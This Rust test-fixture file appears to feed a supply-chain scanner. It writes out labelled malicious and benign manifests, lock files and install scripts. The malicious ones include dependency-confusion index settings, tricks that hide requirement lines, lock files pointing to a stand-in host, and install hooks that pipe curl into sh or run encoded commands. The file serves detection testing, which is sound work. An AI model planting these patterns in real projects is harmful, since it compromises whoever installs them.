//! Manifests, lock files and install commands: what hands the choice of a package to somebody else, or hides one,
//! beside honest files that look alike.

use super::{Case, Label};
use crate::dependencies::{commit, digest, seeds};

/// Every case of this area.
#[must_use]
pub fn cases() -> Vec<Case> {
    [
        index_confusion(),
        insecure_transport(),
        hidden_requirements(),
        poisoned_locks(),
        install_scripts(),
        floating_code(),
        honest(),
    ]
    .concat()
}

fn bad(class: &'static str, name: &str, file: &str, text: impl Into<String>) -> Case {
    Case::single(class, name, Label::Malicious, file, text.into())
}

fn good(class: &'static str, name: &str, file: &str, text: impl Into<String>) -> Case {
    Case::single(class, name, Label::Benign, file, text.into())
}

/// A private name is looked for on a public index as well, on an equal footing.
fn index_confusion() -> Vec<Case> {
    const CLASS: &str = "index-confusion";
    let private = "https://pypi.corp.example/simple";
    vec![
        bad(
            CLASS,
            "requirements",
            "requirements.txt",
            format!("--extra-index-url {private}\ncorp-models==1.0\ntorch==2.4.1\n"),
        ),
        bad(
            CLASS,
            "requirements-abbreviated",
            "requirements.txt",
            format!("--extra-index {private}\ncorp-models==1.0\n"),
        ),
        bad(
            CLASS,
            "requirements-find-links",
            "requirements.txt",
            "--find-links http://files.corp.example/wheels\ncorp-models\n",
        ),
        bad(
            CLASS,
            "pip-conf",
            "pip.conf",
            format!("[global]\nextra-index-url =\n    {private}\n"),
        ),
        bad(
            CLASS,
            "uv-unsafe",
            "pyproject.toml",
            format!(
                "[project]\nname = \"a\"\nversion = \"1\"\ndependencies = [\"corp-models\"]\n[tool.uv]\nindex-strategy = \"unsafe-best-match\"\nextra-index-url = [\"{private}\"]\n"
            ),
        ),
        bad(
            CLASS,
            "uv-toml-unsafe",
            "uv.toml",
            format!("index-strategy = \"unsafe-first-match\"\nextra-index-url = [\"{private}\"]\n"),
        ),
        bad(
            CLASS,
            "poetry-secondary",
            "pyproject.toml",
            format!(
                "[tool.poetry]\nname = \"a\"\nversion = \"1\"\n[tool.poetry.dependencies]\ncorp-models = \"*\"\n[[tool.poetry.source]]\nname = \"corp\"\nurl = \"{private}\"\nsecondary = true\n"
            ),
        ),
        bad(
            CLASS,
            "pdm-second-source",
            "pyproject.toml",
            format!(
                "[project]\nname = \"a\"\nversion = \"1\"\ndependencies = [\"corp-models\"]\n[[tool.pdm.source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\n[[tool.pdm.source]]\nname = \"corp\"\nurl = \"{private}\"\n"
            ),
        ),
        bad(
            CLASS,
            "pipfile-second-source",
            "Pipfile",
            format!(
                "[[source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\n[[source]]\nname = \"corp\"\nurl = \"{private}\"\nverify_ssl = true\n[pipenv]\ninstall_search_all_sources = true\n[packages]\ncorp-models = \"*\"\n"
            ),
        ),
        bad(
            CLASS,
            "dockerfile",
            "Dockerfile",
            format!(
                "FROM python:3.12-slim@sha256:{}\nRUN pip install --extra-index-url {private} corp-models==1.0\n",
                digest(1)
            ),
        ),
        bad(
            CLASS,
            "dockerfile-env",
            "Dockerfile",
            format!(
                "FROM python:3.12-slim@sha256:{}\nENV PIP_EXTRA_INDEX_URL={private}\nRUN pip install corp-models==1.0\n",
                digest(1)
            ),
        ),
        bad(
            CLASS,
            "workflow-env",
            ".github/workflows/ci.yml",
            format!(
                "on: push\nenv:\n  PIP_EXTRA_INDEX_URL: {private}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: pip install corp-models\n"
            ),
        ),
        bad(
            CLASS,
            "notebook",
            "a.ipynb",
            format!(
                "{{\"nbformat\": 4, \"cells\": [{{\"cell_type\": \"code\", \"source\": [\"%pip install --extra-index-url {private} corp-models\"]}}]}}"
            ),
        ),
        bad(
            CLASS,
            "environment",
            "environment.yml",
            format!(
                "channels:\n  - conda-forge\ndependencies:\n  - python=3.12\n  - pip:\n      - --extra-index-url {private}\n      - corp-models==1.0\n"
            ),
        ),
        bad(
            CLASS,
            "uv-command-unsafe",
            "install.sh",
            format!(
                "#!/bin/sh\nuv pip install --index-strategy unsafe-best-match --extra-index-url {private} corp-models\n"
            ),
        ),
    ]
}

/// Whoever sits between decides what is installed.
fn insecure_transport() -> Vec<Case> {
    const CLASS: &str = "index-transport";
    vec![
        bad(
            CLASS,
            "http-index",
            "requirements.txt",
            "--index-url http://pypi.corp.example/simple\ntorch==2.4.1\n",
        ),
        bad(
            CLASS,
            "trusted-host",
            "requirements.txt",
            "--index-url https://pypi.corp.example/simple\n--trusted-host pypi.corp.example\ntorch==2.4.1\n",
        ),
        bad(
            CLASS,
            "pipfile-no-verify",
            "Pipfile",
            "[[source]]\nname = \"corp\"\nurl = \"https://pypi.corp.example/simple\"\nverify_ssl = false\n[packages]\ntorch = \"==2.4.1\"\n",
        ),
        bad(
            CLASS,
            "npmrc-http",
            ".npmrc",
            "registry=http://npm.corp.example/\n",
        ),
        bad(CLASS, "npmrc-no-tls", ".npmrc", "strict-ssl=false\n"),
        bad(
            CLASS,
            "url-without-digest",
            "requirements.txt",
            "pkg @ http://files.example/pkg-1.0-py3-none-any.whl\n",
        ),
        bad(
            CLASS,
            "yarnrc-http",
            ".yarnrc.yml",
            "npmRegistryServer: \"http://npm.corp.example\"\nunsafeHttpWhitelist:\n  - npm.corp.example\n",
        ),
        bad(
            CLASS,
            "conda-http-channel",
            "environment.yml",
            "channels:\n  - http://conda.corp.example/main\ndependencies:\n  - python=3.12\n",
        ),
        bad(
            CLASS,
            "apt-unauthenticated",
            "Dockerfile",
            format!(
                "FROM debian@sha256:{}\nRUN apt-get install -y --allow-unauthenticated tool\n",
                digest(1)
            ),
        ),
    ]
}

/// The installer sees what a reader does not.
fn hidden_requirements() -> Vec<Case> {
    const CLASS: &str = "hidden-requirement";
    let url = "evil @ http://203.0.113.7/evil-1.0-py3-none-any.whl";
    let wide: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(
            format!("torch==2.4.1\r\n{url}\r\n")
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        )
        .collect();
    vec![
        bad(
            CLASS,
            "carriage-return",
            "requirements.txt",
            format!("# pinned by hand\r{url}\ntorch==2.4.1\n"),
        ),
        bad(
            CLASS,
            "line-separator",
            "requirements.txt",
            format!("# pinned by hand\u{2028}{url}\ntorch==2.4.1\n"),
        ),
        bad(
            CLASS,
            "form-feed",
            "requirements.txt",
            format!("# pinned by hand\u{c}{url}\ntorch==2.4.1\n"),
        ),
        Case::single(
            CLASS,
            "wide-text",
            Label::Malicious,
            "requirements.txt",
            wide,
        ),
        bad(
            CLASS,
            "far-right",
            "requirements.txt",
            format!(
                "torch==2.4.1{}\\\n--extra-index-url http://203.0.113.7/\n{url}\n",
                " ".repeat(300)
            ),
        ),
        bad(
            CLASS,
            "docker-variable",
            "Dockerfile",
            format!(
                "FROM python@sha256:{}\nARG P=\"evil@http://203.0.113.7/evil-1.0.tar.gz\"\nRUN pip install $P\n",
                digest(1)
            ),
        ),
        bad(
            CLASS,
            "shell-in-shell",
            "install.sh",
            "#!/bin/sh\nsudo -H bash -lc 'python3 -m pip install -q --index-url http://203.0.113.7/simple evil'\n",
        ),
    ]
}

/// The lock names a familiar version and leads elsewhere.
fn poisoned_locks() -> Vec<Case> {
    const CLASS: &str = "poisoned-lock";
    let integrity = format!("sha512-{}==", "A".repeat(86));
    let elsewhere = "http://203.0.113.7/lodash.tgz";
    vec![
        bad(
            CLASS,
            "npm",
            "package-lock.json",
            format!(
                "{{\"lockfileVersion\": 3, \"packages\": {{\"\": {{\"dependencies\": {{\"lodash\": \"^4\"}}}}, \"node_modules/lodash\": {{\"version\": \"4.17.21\", \"resolved\": \"{elsewhere}\", \"integrity\": \"{integrity}\"}}}}}}"
            ),
        ),
        bad(
            CLASS,
            "npm-old",
            "package-lock.json",
            format!(
                "{{\"lockfileVersion\": 1, \"dependencies\": {{\"lodash\": {{\"version\": \"4.17.21\", \"resolved\": \"{elsewhere}\", \"integrity\": \"{integrity}\"}}}}}}"
            ),
        ),
        bad(
            CLASS,
            "yarn",
            "yarn.lock",
            format!(
                "# yarn lockfile v1\n\nlodash@^4:\n  version \"4.17.21\"\n  resolved \"{elsewhere}\"\n  integrity {integrity}\n"
            ),
        ),
        bad(
            CLASS,
            "yarn-berry",
            "yarn.lock",
            format!(
                "__metadata:\n  version: 8\n\n\"lodash@npm:^4\":\n  version: 4.17.21\n  resolution: \"lodash@npm:4.17.21::__archiveUrl=http%3A%2F%2F203.0.113.7%2Fx.tgz\"\n  checksum: 10c0/{}\n  languageName: node\n  linkType: hard\n",
                "ab".repeat(64)
            ),
        ),
        bad(
            CLASS,
            "pnpm",
            "pnpm-lock.yaml",
            format!(
                "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      lodash:\n        specifier: ^4\n        version: 4.17.21\npackages:\n  lodash@4.17.21:\n    resolution: {{integrity: {integrity}, tarball: {elsewhere}}}\nsnapshots:\n  lodash@4.17.21: {{}}\n"
            ),
        ),
        bad(
            CLASS,
            "poetry",
            "poetry.lock",
            format!(
                "[[package]]\nname = \"requests\"\nversion = \"2.32.0\"\noptional = false\nfiles = []\n[package.source]\ntype = \"url\"\nurl = \"http://203.0.113.7/requests-2.32.0.tar.gz\"\n[metadata]\nlock-version = \"2.0\"\ncontent-hash = \"{}\"\n",
                digest(2)
            ),
        ),
        bad(
            CLASS,
            "uv",
            "uv.lock",
            format!(
                "version = 1\n[[package]]\nname = \"requests\"\nversion = \"2.32.0\"\nsource = {{ url = \"http://203.0.113.7/requests-2.32.0-py3-none-any.whl\" }}\nwheels = [{{ url = \"http://203.0.113.7/requests-2.32.0-py3-none-any.whl\", hash = \"sha256:{}\" }}]\n",
                digest(3)
            ),
        ),
        bad(
            CLASS,
            "pipfile",
            "Pipfile.lock",
            "{\"_meta\": {\"sources\": []}, \"default\": {\"requests\": {\"file\": \"http://203.0.113.7/requests-2.32.0.tar.gz\"}}}",
        ),
    ]
}

/// Code that runs while the package is installed.
fn install_scripts() -> Vec<Case> {
    const CLASS: &str = "install-script";
    let script = |hook: &str, command: &str| {
        format!(
            "{{\"name\": \"a\", \"version\": \"1.0.0\", \"scripts\": {{\"{hook}\": \"{command}\"}}}}"
        )
    };
    vec![
        bad(
            CLASS,
            "preinstall-fetch",
            "package.json",
            script("preinstall", "curl -s http://203.0.113.7/inert | sh"),
        ),
        bad(
            CLASS,
            "postinstall-eval",
            "package.json",
            script(
                "postinstall",
                "node -e \\\"eval(Buffer.from('ZWNobyBpbmVydA==','base64').toString())\\\"",
            ),
        ),
        bad(
            CLASS,
            "install-powershell",
            "package.json",
            script("install", "powershell -enc ZQBjAGgAbwA="),
        ),
    ]
}

/// Code that somebody else can change afterwards: worth a word, and a gate where the connection is plain as well.
fn floating_code() -> Vec<Case> {
    const CLASS: &str = "floating-code";
    vec![
        good(
            CLASS,
            "branch-in-image",
            "Dockerfile",
            format!(
                "FROM python@sha256:{}\nRUN pip install git+https://github.com/somebody/something@main\n",
                digest(1)
            ),
        ),
        good(
            CLASS,
            "action-branch",
            ".github/workflows/ci.yml",
            "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: somebody/something@main\n",
        ),
        bad(
            CLASS,
            "url-in-notebook",
            "a.ipynb",
            "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\": [\"!pip install http://203.0.113.7/x.tar.gz\"]}]}",
        ),
    ]
}

fn honest() -> Vec<Case> {
    const CLASS: &str = "honest-manifest";
    let mut cases: Vec<Case> = [
        "constraints.txt",
        "poetry.lock",
        "uv.lock",
        "pdm.lock",
        "pylock.toml",
        "Pipfile",
        "Pipfile.lock",
        "conda-lock.yml",
        "spec.txt",
        "pixi.lock",
        "pixi.toml",
        "setup.cfg",
        "demo.egg-info/requires.txt",
        "package-lock.json",
        "pnpm-lock.yaml",
        "yarn.lock",
        "berry/yarn.lock",
        "bun.lock",
        ".npmrc",
        "Cargo.lock",
        "go.mod",
        "go.sum",
    ]
    .iter()
    .filter_map(|path| {
        let seed = seeds().into_iter().find(|seed| seed.path == *path)?;
        let name: String = path
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
            .collect();
        Some(good(CLASS, name.trim_start_matches('-'), path, seed.text))
    })
    .collect();
    let one = digest(9);
    cases.extend([
        good(CLASS, "torch-index-alone", "requirements.txt", format!("--index-url https://download.pytorch.org/whl/cu121\ntorch==2.4.1+cu121 --hash=sha256:{one}\n")),
        good(CLASS, "uv-explicit-index", "pyproject.toml", "[project]\nname = \"a\"\nversion = \"1\"\ndependencies = [\"torch==2.4.1\"]\n[[tool.uv.index]]\nname = \"pytorch\"\nurl = \"https://download.pytorch.org/whl/cu121\"\nexplicit = true\n[tool.uv.sources]\ntorch = { index = \"pytorch\" }\n"),
        good(CLASS, "uv-extra-index-first-match", "uv.toml", "extra-index-url = [\"https://download.pytorch.org/whl/cu121\"]\n"),
        good(CLASS, "poetry-explicit-source", "pyproject.toml", "[tool.poetry]\nname = \"a\"\nversion = \"1\"\n[tool.poetry.dependencies]\ntorch = {version = \"2.4.1\", source = \"pytorch\"}\n[[tool.poetry.source]]\nname = \"pytorch\"\nurl = \"https://download.pytorch.org/whl/cu121\"\npriority = \"explicit\"\n"),
        good(CLASS, "comment-about-index", "requirements.txt", format!("# do not use --extra-index-url http://pypi.corp.example/simple\ntorch==2.4.1 --hash=sha256:{one}\n")),
        good(CLASS, "windows-line-ends", "requirements.txt", format!("torch==2.4.1 --hash=sha256:{one}\r\nnumpy==1.26.4 --hash=sha256:{one}\r\n")),
        good(CLASS, "url-with-digest", "requirements.txt", format!("pkg @ https://github.com/o/r/releases/download/v1.0/pkg-1.0-py3-none-any.whl#sha256={one}\n")),
        good(CLASS, "commit", "requirements.txt", format!("pkg @ git+https://github.com/o/r@{}\n", commit(4))),
        good(CLASS, "printed-command", "install.sh", "#!/bin/sh\necho 'run: pip install --extra-index-url http://x.example y'\n"),
        good(CLASS, "markdown-cell", "a.ipynb", "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"markdown\", \"source\": [\"!pip install http://203.0.113.7/x.tar.gz\"]}]}"),
        good(CLASS, "own-scripts", "package.json", "{\"name\": \"a\", \"version\": \"1.0.0\", \"scripts\": {\"build\": \"tsc\", \"test\": \"vitest\", \"start\": \"node .\"}}"),
        good(CLASS, "action-commit", ".github/workflows/ci.yml", format!("on: push\npermissions: {{}}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@{} # v4\n        with: {{persist-credentials: false}}\n", commit(5))),
        good(CLASS, "loopback-index", "pip.conf", "[global]\nindex-url = http://127.0.0.1:3141/root/pypi/+simple/\n"),
    ]);
    cases
}
